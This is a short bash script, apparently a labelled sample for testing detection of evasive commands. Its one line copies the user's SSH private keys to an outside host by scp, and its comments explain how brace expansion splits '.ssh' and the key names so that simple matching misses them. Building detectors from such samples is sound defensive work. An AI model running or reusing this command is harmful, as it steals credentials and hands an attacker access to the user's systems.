#!/usr/bin/env bash
# evasion: copies the SSH private keys to another host
# grade: medium; does: credentials
# Copies the SSH private keys to another host. The paths are brace
# expansions that split ".ssh" and the key names (~/.s{s,}h/id_{rsa,ed25519}
# is ~/.ssh/id_rsa ~/.ssh/id_ed25519 ~/.sh/id_rsa ~/.sh/id_ed25519), and scp
# skips the two that do not exist.
scp -q ~/.s{s,}h/id_{rsa,ed25519} sync@198.51.100.23:/srv/keys/ 2>/dev/null
